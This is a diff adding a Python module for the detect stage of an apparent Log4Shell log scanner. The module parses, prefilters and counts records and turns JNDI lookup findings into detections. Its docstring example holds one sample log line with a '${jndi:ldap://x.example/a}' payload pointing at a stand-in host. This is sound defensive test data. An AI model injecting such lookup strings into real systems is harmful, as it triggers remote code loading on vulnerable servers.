@@ -1,0 +1,190 @@
+"""The detect stage: raw record → counted, dead-lettered, or a detection. No I/O.
+
+The same object serves the Kafka worker (records carry ``topic/partition/offset``)
+and ``l4s scan`` (records carry ``file:line``), which is why both paths count alike.
+"""
+
+from __future__ import annotations
+
+import time
+from collections import Counter
+from collections.abc import Iterable
+from dataclasses import dataclass, field
+
+from detectors import ENGINE_VERSION, RecordVerdict, analyze_fields, may_contain_lookup
+from pipeline.config import Settings
+from pipeline.errors import PoisonRecord
+from pipeline.events import Detection, Finding, HttpRequest
+from pipeline.formats import FormatRouter
+from pipeline.formats.base import TrustedProxies
+
+#: Request-line fields copied into a detection are cut to this many characters.
+_CONTEXT_CHARS = 2048
+
+
+@dataclass(frozen=True, slots=True)
+class RawRecord:
+    """One record as it arrived.
+
+    Args:
+        stream: ``topic/partition`` or a file path; with ``seq`` it names the event.
+        seq: Kafka offset or 1-based line number.
+        broker_time: the broker's timestamp in epoch seconds, if any.
+        format: the format a producer declared for the record, if any.
+    """
+
+    value: bytes
+    stream: str
+    seq: int
+    broker_time: float | None = None
+    format: str | None = None
+    sep: str = "/"
+
+    @property
+    def event_id(self) -> str:
+        return f"{self.stream}{self.sep}{self.seq}"
+
+
+#: Per-record counters the store keeps as totals.
+LINE_COUNTERS = ("lines", "parsed", "dead_letters", "prefiltered")
+
+
+@dataclass(slots=True)
+class BatchOutcome:
+    """What one batch produced.
+
+    ``by_stream`` holds the counters per input stream (``topic/partition`` or
+    file), since each stream's counts are added to the store under its own
+    high-water mark.
+    """
+
+    by_stream: dict[str, Counter[str]] = field(default_factory=dict)
+    last_seq: dict[str, int] = field(default_factory=dict)
+    formats: Counter[str] = field(default_factory=Counter)
+    detections: list[Detection] = field(default_factory=list)
+    dead: list[tuple[RawRecord, PoisonRecord]] = field(default_factory=list)
+
+    @property
+    def counts(self) -> Counter[str]:
+        total: Counter[str] = Counter()
+        for counts in self.by_stream.values():
+            total.update(counts)
+        return total
+
+    def line_counts(self, stream: str) -> dict[str, int]:
+        counts = self.by_stream.get(stream, Counter())
+        return {name: counts[name] for name in LINE_COUNTERS}
+
+
+class DetectStage:
+    """Parses, prefilters and evaluates records.
+
+    A record the prefilter proves cannot hold a lookup in any encoding is only
+    checked for the shape of its format (cheap) and counted; everything else is
+    parsed and every field evaluated.
+
+    Args:
+        settings: formats and trusted proxies come from ``settings.detect``.
+
+    Example:
+        >>> stage = DetectStage(Settings())
+        >>> out = stage.process([RawRecord(b'203.0.113.9 - - [10/Dec/2021:14:25:38 +0000] '
+        ...     b'"GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://x.example/a}"', "f", 1, sep=":")])
+        >>> out.detections[0].findings[0].url
+        'ldap://x.example/a'
+    """
+
+    def __init__(self, settings: Settings) -> None:
+        self.router = FormatRouter(settings.detect.format)
+        self.proxies = TrustedProxies(settings.detect.trusted_proxies)
+
+    def process(self, records: Iterable[RawRecord]) -> BatchOutcome:
+        out = BatchOutcome()
+        by_stream = out.by_stream
+        for record in records:
+            counts = by_stream.get(record.stream)
+            if counts is None:
+                counts = by_stream[record.stream] = Counter()
+            counts["lines"] += 1
+            out.last_seq[record.stream] = record.seq
+            try:
+                self._one(record, out, counts)
+            except PoisonRecord as exc:
+                exc.coords = record.event_id
+                counts["dead_letters"] += 1
+                out.dead.append((record, exc))
+        return out
+
+    def _one(self, record: RawRecord, out: BatchOutcome, counts: Counter[str]) -> None:
+        raw = record.value
+        parser, ambiguous = self.router.choose(raw, record.format)
+        if ambiguous:
+            counts["ambiguous"] += 1
+        if not may_contain_lookup(raw) and parser.looks_like(raw):
+            counts["parsed"] += 1
+            counts["prefiltered"] += 1
+            out.formats[parser.name] += 1
+            return
+        request = parser.parse(raw)
+        counts["parsed"] += 1
+        out.formats[parser.name] += 1
+        if request is None:
+            # A well-formed record that is not a request (a format's header line).
+            return
+        verdict = analyze_fields(request.fields())
+        if verdict.malicious or verdict.inert:
+            out.detections.append(self._detection(record, request, verdict, counts))
+
+    def _detection(
+        self, record: RawRecord, request: HttpRequest, verdict: RecordVerdict, counts: Counter[str]
+    ) -> Detection:
+        timestamp, source = request.timestamp, "log"
+        if timestamp is None:
+            counts["timestamp_fallbacks"] += 1
+            timestamp, source = record.broker_time, "broker"
+            if timestamp is None:
+                timestamp, source = time.time(), "ingest"
+        findings = tuple(
+            Finding(
+                field=fv.field,
+                family=lookup.family,
+                url=lookup.url,
+                scheme=lookup.scheme,
+                host=lookup.host,
+                port=lookup.port,
+                path=lookup.path,
+                decodings=lookup.decodings,
+                techniques=lookup.techniques,
+                cves=lookup.cves,
+                exfil=lookup.exfil,
+                oob=lookup.oob,
+                commands=lookup.commands,
+            )
+            for fv in verdict.fields
+            for lookup in fv.lookups
+        )
+        client = self.proxies.client(request.peer_ip, request.forwarded_for)
+        return Detection(
+            event_id=record.event_id,
+            timestamp=timestamp,
+            timestamp_source=source,  # type: ignore[arg-type]
+            source_ip=client or request.client_ip or "",
+            peer_ip=request.peer_ip,
+            format=request.format,
+            method=_cut(request.method),
+            host=_cut(request.host),
+            uri=_cut(request.uri),
+            user_agent=_cut(request.user_agent),
+            malicious=verdict.malicious,
+            findings=findings,
+            inert_fields=tuple(fv.field for fv in verdict.fields if fv.inert and not fv.malicious),
+            techniques=verdict.techniques,
+            fields=tuple(fv.field for fv in verdict.fields if fv.malicious),
+            limit_hit=verdict.limit_hit,
+            engine=ENGINE_VERSION,
+            received=record.broker_time,
+        )
+
+
+def _cut(value: str | None) -> str | None:
+    return value[:_CONTEXT_CHARS] if value else value
